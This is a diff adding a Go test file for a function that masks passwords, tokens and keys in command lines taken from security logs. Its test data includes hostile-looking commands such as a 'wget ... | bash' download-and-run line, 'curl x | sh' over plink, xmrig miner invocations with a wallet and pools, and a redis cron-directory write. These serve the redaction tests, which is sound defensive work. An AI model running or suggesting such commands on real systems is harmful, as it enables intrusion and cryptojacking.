@@ -1,0 +1,182 @@
+package redact
+
+import (
+	"strings"
+	"testing"
+	"unicode/utf8"
+)
+
+// TestSecrets: command lines as attackers and admins type them, from
+// auditd, Sysmon and Defender for Endpoint. Each secret's value is hidden;
+// the program, the flags' names, the user, the pool and the wallet stay.
+func TestSecrets(t *testing.T) {
+	t.Parallel()
+	const wallet = "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD"
+	for _, c := range []struct{ name, in, want string }{
+		// Service principal and user sign-ins.
+		{"az login service principal", "az login --service-principal -u 0f3c2a1e-app -p Zx8Q~secretValue123 --tenant 72f988bf",
+			"az login --service-principal -u 0f3c2a1e-app -p *** --tenant 72f988bf"},
+		{"az login long flag", "az login --username admin@contoso.example --password 'Winter2026!'",
+			"az login --username admin@contoso.example --password '***'"},
+		{"az login -p attached", "/usr/bin/az login --service-principal -u app -pZx8Q --tenant t", "/usr/bin/az login --service-principal -u app -p*** --tenant t"},
+		{"az via bash -c", `bash -c "az login --service-principal -u app -p Zx8Q --tenant t && az vm list"`,
+			`bash -c "az login --service-principal -u app -p *** --tenant t && az vm list"`},
+		{"az client secret", "az ad sp credential reset --id app --client-secret=abc123", "az ad sp credential reset --id app --client-secret=***"},
+		{"vm admin password", "az vm create -n miner01 --image Ubuntu2204 --admin-username azureuser --admin-password P@ssw0rd1234 --size Standard_NC6s_v3",
+			"az vm create -n miner01 --image Ubuntu2204 --admin-username azureuser --admin-password *** --size Standard_NC6s_v3"},
+		{"powershell", `powershell.exe -c Connect-AzAccount -ServicePrincipal -Tenant t -ApplicationId a -CertificatePassword:Hunter2 -AccessToken eyJ0eXAi`,
+			`powershell.exe -c Connect-AzAccount -ServicePrincipal -Tenant t -ApplicationId a -CertificatePassword:*** -AccessToken ***`},
+		{"securestring", `pwsh -c "$p = ConvertTo-SecureString 'S3cr3t!' -AsPlainText -Force"`, `pwsh -c "$p = ConvertTo-SecureString '***' -AsPlainText -Force"`},
+		{"securestring -String", `pwsh -c "ConvertTo-SecureString -String 'S3cr3t!' -AsPlainText -Force"`, `pwsh -c "ConvertTo-SecureString -String '***' -AsPlainText -Force"`},
+
+		// Databases.
+		{"mysql attached", "mysql -u root -pS3cret -h 10.0.0.4 billing", "mysql -u root -p*** -h 10.0.0.4 billing"},
+		{"mysql quoted", "sudo /usr/bin/mysql -uroot -p'S3 cret' -e 'show databases'", "sudo /usr/bin/mysql -uroot -p'***' -e 'show databases'"},
+		{"mysqldump --password=", "mysqldump --user=root --password=S3cret --all-databases", "mysqldump --user=root --password=*** --all-databases"},
+		{"sqlcmd", "sqlcmd -S tcp:db.database.windows.net -U sa -P S3cret -Q select", "sqlcmd -S tcp:db.database.windows.net -U sa -P *** -Q select"},
+		{"redis", "redis-cli -h 10.0.0.9 -a foobared config set dir /var/spool/cron", "redis-cli -h 10.0.0.9 -a *** config set dir /var/spool/cron"},
+		{"odbc", `isql -k "Driver=ODBC;Server=db;Uid=sa;Pwd=S3cret;"`, `isql -k "Driver=ODBC;Server=db;Uid=sa;Pwd=***;"`},
+		{"sql connection string", `dotnet app.dll "Server=tcp:db.database.windows.net;User ID=admin;Password=S3cret;Encrypt=True"`,
+			`dotnet app.dll "Server=tcp:db.database.windows.net;User ID=admin;Password=***;Encrypt=True"`},
+		{"pgpassword", "PGPASSWORD=S3cret psql -h db -U postgres", "PGPASSWORD=*** psql -h db -U postgres"},
+
+		// HTTP.
+		{"curl -u", "curl -u admin:S3cret https://10.0.0.5/api", "curl -u admin:*** https://10.0.0.5/api"},
+		{"curl --user=", "curl --user=admin:S3cret https://10.0.0.5/api", "curl --user=admin:*** https://10.0.0.5/api"},
+		{"curl -u no password", "curl -u admin https://10.0.0.5/api", "curl -u admin https://10.0.0.5/api"},
+		{"bearer header", `curl -s -H "Authorization: Bearer eyJ0eXAiOiJKV1Qi.eyJhdWQi.sig" https://management.azure.com/subscriptions`,
+			`curl -s -H "Authorization: Bearer ***" https://management.azure.com/subscriptions`},
+		{"basic header, single quotes", `curl -H 'authorization: Basic YWRtaW46UzNjcmV0' http://x`, `curl -H 'authorization: Basic ***' http://x`},
+		{"az rest headers", `az rest --method get --url https://graph.microsoft.com/v1.0/me --headers "Authorization=Bearer eyJ0"`,
+			`az rest --method get --url https://graph.microsoft.com/v1.0/me --headers "Authorization=Bearer ***"`},
+		{"api key header", `curl -H "api-key: 0123abcd" https://x.openai.azure.com/openai/deployments`, `curl -H "api-key: ***" https://x.openai.azure.com/openai/deployments`},
+		{"apim header", `curl -H "Ocp-Apim-Subscription-Key: 0123abcd" https://api`, `curl -H "Ocp-Apim-Subscription-Key: ***" https://api`},
+		{"url userinfo", "git clone https://deploy:ghp_16C7e42F292c6912E7710c838347Ae178B4a@github.com/org/repo.git",
+			"git clone https://deploy:***@github.com/org/repo.git"},
+		{"oauth body", `curl -d "grant_type=client_credentials&client_id=app&client_secret=Zx8Q~abc&scope=https://management.azure.com/.default" https://login.microsoftonline.com/t/oauth2/v2.0/token`,
+			`curl -d "grant_type=client_credentials&client_id=app&client_secret=***&scope=https://management.azure.com/.default" https://login.microsoftonline.com/t/oauth2/v2.0/token`},
+		{"json body", `curl -d '{"username":"admin","password": "S3cret"}' http://x`, `curl -d '{"username":"admin","password": "***"}' http://x`},
+		{"escaped json body", `cmd /c curl -d "{\"client_secret\":\"Zx8Q\",\"x\":1}" http://x`, `cmd /c curl -d "{\"client_secret\":\"***\",\"x\":1}" http://x`},
+		{"functions key", "curl https://fn.azurewebsites.net/api/run?code=abcDEF123==&name=x", "curl https://fn.azurewebsites.net/api/run?code=***&name=x"},
+
+		// Azure storage and messaging.
+		{"storage connection string", `az storage blob upload --connection-string "DefaultEndpointsProtocol=https;AccountName=acct;AccountKey=q1w2e3r4t5y6+/abc==;EndpointSuffix=core.windows.net" -f x`,
+			`az storage blob upload --connection-string "DefaultEndpointsProtocol=https;AccountName=acct;AccountKey=***;EndpointSuffix=core.windows.net" -f x`},
+		{"event hub connection string", `node send.js Endpoint=sb://ns.servicebus.windows.net/;SharedAccessKeyName=RootManageSharedAccessKey;SharedAccessKey=abc+def=`,
+			`node send.js Endpoint=sb://ns.servicebus.windows.net/;SharedAccessKeyName=RootManageSharedAccessKey;SharedAccessKey=***`},
+		{"sas url", "azcopy copy 'https://acct.blob.core.windows.net/c/x.tar?sv=2022-11-02&ss=b&srt=o&sp=r&se=2026-12-01T00:00:00Z&sig=AbC%2Bdef%3D' /tmp/x.tar",
+			"azcopy copy 'https://acct.blob.core.windows.net/c/x.tar?sv=2022-11-02&ss=b&srt=o&sp=r&se=2026-12-01T00:00:00Z&sig=***' /tmp/x.tar"},
+		{"account key flag", "az storage container list --account-name acct --account-key q1w2e3==", "az storage container list --account-name acct --account-key ***"},
+		{"sas token flag", "az storage blob download --sas-token \"sv=2022&sig=abc\" -n x", "az storage blob download --sas-token \"***\" -n x"},
+
+		// Environment.
+		{"export", "export AZURE_CLIENT_SECRET=Zx8Q~abc AZURE_CLIENT_ID=app", "export AZURE_CLIENT_SECRET=*** AZURE_CLIENT_ID=app"},
+		{"env prefix", "AZURE_STORAGE_KEY=q1w2== ARM_CLIENT_SECRET='x y' terraform apply", "AZURE_STORAGE_KEY=*** ARM_CLIENT_SECRET='***' terraform apply"},
+		{"powershell env", `pwsh -c $env:AZURE_CLIENT_SECRET="Zx8Q"; ./run.ps1`, `pwsh -c $env:AZURE_CLIENT_SECRET="***"; ./run.ps1`},
+		{"docker -e", "docker run -e GITHUB_TOKEN=ghp_abc -p 8080:80 img", "docker run -e GITHUB_TOKEN=*** -p 8080:80 img"},
+
+		// Other tools.
+		{"sshpass", "sshpass -p S3cret ssh -o StrictHostKeyChecking=no root@10.0.0.7", "sshpass -p *** ssh -o StrictHostKeyChecking=no root@10.0.0.7"},
+		{"plink", `plink.exe -ssh root@10.0.0.7 -pw S3cret "curl x | sh"`, `plink.exe -ssh root@10.0.0.7 -pw *** "curl x | sh"`},
+		{"openssl", "openssl enc -d -aes-256-cbc -pass pass:S3cret -in p.enc -out p", "openssl enc -d -aes-256-cbc -pass *** -in p.enc -out p"},
+		{"openssl -k", "openssl enc -d -aes-256-cbc -k S3cret -in p.enc", "openssl enc -d -aes-256-cbc -k *** -in p.enc"},
+		{"7z", "7z x -pinfected payload.7z -o/tmp/.x", "7z x -p*** payload.7z -o/tmp/.x"},
+		{"smbclient", "smbclient //10.0.0.3/c$ -U admin%S3cret", "smbclient //10.0.0.3/c$ -U admin%***"},
+		{"xfreerdp", "xfreerdp /v:10.0.0.3 /u:admin /p:S3cret", "xfreerdp /v:10.0.0.3 /u:admin /p:***"},
+		{"windows flag", `wmic /node:10.0.0.3 /user:admin /password:S3cret process call create "x.exe"`, `wmic /node:10.0.0.3 /user:admin /password:*** process call create "x.exe"`},
+		{"kubectl", "kubectl --token=eyJhbGci get secrets -A", "kubectl --token=*** get secrets -A"},
+		{"kubectl create secret", "kubectl create secret generic db --from-literal=password=S3cret", "kubectl create secret generic db --from-literal=password=***"},
+
+		// Miners: the pool, the wallet and the options stay.
+		{"xmrig", "./xmrig -o pool.supportxmr.com:3333 -u " + wallet + " -p x -k --donate-level 1",
+			"./xmrig -o pool.supportxmr.com:3333 -u " + wallet + " -p x -k --donate-level 1"},
+		{"xmrig long flags", "/tmp/.x/kswapd0 --url=stratum+tcp://pool.minexmr.com:4444 --user=" + wallet + " --pass=x --cpu-priority 5",
+			"/tmp/.x/kswapd0 --url=stratum+tcp://pool.minexmr.com:4444 --user=" + wallet + " --pass=*** --cpu-priority 5"},
+		{"stratum userinfo", "t-rex -a kawpow -o stratum+tcp://" + wallet + ".rig1:x@rvn.2miners.com:6060",
+			"t-rex -a kawpow -o stratum+tcp://" + wallet + ".rig1:***@rvn.2miners.com:6060"},
+
+		// Benign lines that must not change.
+		{"mkdir -p", "mkdir -p /var/tmp/.X11-unix/.cache && cd /var/tmp/.X11-unix/.cache", ""},
+		{"ssh -p", "ssh -p 2222 -i ~/.ssh/id_rsa azureuser@20.1.2.3", ""},
+		{"docker -p", "docker run -d -p 3333:3333 --name x img", ""},
+		{"mkdir after mysql", "mysql -e 'select 1'; mkdir -p /tmp/x", ""},
+		{"password prompt flags", "docker login --password-stdin --username u myacr.azurecr.io", ""},
+		{"no value", "az login --password", ""},
+		{"password then flag", "ftp --password --verbose host", ""},
+		{"path with secret word", "cat /etc/secret/token:x /data/password=1", "cat /etc/secret/token:x /data/password=***"},
+		{"token file", "kubectl --token-file /var/run/secrets/token get pods", ""},
+		{"key names only", "az keyvault secret show --vault-name kv --name db-password", ""},
+		{"shared access key name", "Endpoint=sb://ns/;SharedAccessKeyName=Root", ""},
+		{"bare url", "wget -q -O- http://198.51.100.7:8080/x.sh | bash", ""},
+		{"url user without password", "git clone ssh://git@github.com/org/repo.git", ""},
+		{"bearer alone", `curl -H "Authorization: Bearer" http://x`, ""},
+		{"exit code words", "echo exit code: 3", ""},
+		{"empty", "", ""},
+	} {
+		want := c.want
+		if want == "" {
+			want = c.in
+		}
+		if got := Secrets(c.in); got != want {
+			t.Errorf("%s:\n in   %s\n got  %s\n want %s", c.name, c.in, got, want)
+		}
+	}
+}
+
+// TestSecretsReturnsTheTextItself: nothing to hide, nothing allocated.
+func TestSecretsReturnsTheTextItself(t *testing.T) {
+	in := "/usr/bin/xmrig -o pool.supportxmr.com:443 --tls -u 4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge"
+	if n := testing.AllocsPerRun(100, func() { _ = Secrets(in) }); n != 0 {
+		t.Errorf("%v allocations for a line without secrets", n)
+	}
+}
+
+func TestTableNamesAreNormalised(t *testing.T) {
+	for _, n := range names {
+		if n.name == "" || strings.ToLower(n.name) != n.name || strings.ContainsAny(n.name, "-_.") {
+			t.Errorf("name %q: want lower case without - _ .", n.name)
+		}
+	}
+	for _, f := range scopedFlags {
+		for _, p := range f.programs {
+			if strings.ToLower(p) != p || strings.HasSuffix(p, ".exe") {
+				t.Errorf("%s: program %q: want lower case without .exe", f.flag, p)
+			}
+		}
+	}
+}
+
+// FuzzSecrets: Secrets never panics, hides once (a second pass changes
+// nothing), at most doubles the text (a mask of three bytes stands for a
+// value of at least one, after a name or a separator) and keeps valid
+// UTF-8 valid.
+func FuzzSecrets(f *testing.F) {
+	for _, s := range []string{
+		"az login --service-principal -u app -p Zx8Q --tenant t",
+		"mysql -u root -p'S3 cret' -e x; mkdir -p /tmp/x",
+		`curl -H "Authorization: Bearer eyJ0" -u a:b https://u:p@h/x?sig=abc&code=1`,
+		`{"password": "x", \"token\":\"y\"}`,
+		"export AZURE_CLIENT_SECRET=x AccountKey=y==;SharedAccessKey=z",
+		`pwsh -c ConvertTo-SecureString -String 'x' -AsPlainText`,
+		"./xmrig -o stratum+tcp://W:x@pool:3333 -u W -p x",
+		"--password \"abc",
+		"Authorization: Bearer \"x\"",
+		"/p:x /password:y smbclient -U a%b",
+	} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, s string) {
+		once := Secrets(s)
+		if twice := Secrets(once); twice != once {
+			t.Fatalf("not idempotent:\n in    %q\n once  %q\n twice %q", s, once, twice)
+		}
+		// A mask stands for a value of at least one byte, after a name or
+		// a separator of at least two.
+		if len(once) > 2*len(s) {
+			t.Fatalf("grew from %d to %d bytes: %q -> %q", len(s), len(once), s, once)
+		}
+		if utf8.ValidString(s) && !utf8.ValidString(once) {
+			t.Fatalf("broke UTF-8: %q -> %q", s, once)
+		}
+	})
+}
